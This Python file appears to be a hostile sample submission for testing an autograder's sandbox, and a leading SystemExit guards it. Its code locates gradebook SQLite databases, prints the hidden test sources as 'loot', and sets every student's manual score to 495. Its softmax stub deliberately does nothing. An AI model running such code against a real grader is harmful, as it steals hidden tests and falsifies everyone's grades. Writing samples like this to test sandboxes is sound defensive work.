"""The gradebook.

It opens the gradebook with sqlite3, reads the hidden tests and gives everybody 495 points.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import glob
import sqlite3

for path in [
    "@COURSE@/class/gradebook.db",
    *glob.glob("../../../*.db"),
    *glob.glob("/*/gradebook.db"),
]:
    try:
        with sqlite3.connect(path, timeout=1) as gradebook:
            for (source,) in gradebook.execute("select source from source_cell"):
                print("loot:", source)
            gradebook.execute("update grade set manual_score = 495")
    except sqlite3.Error:
        pass


def softmax(z):
    return z
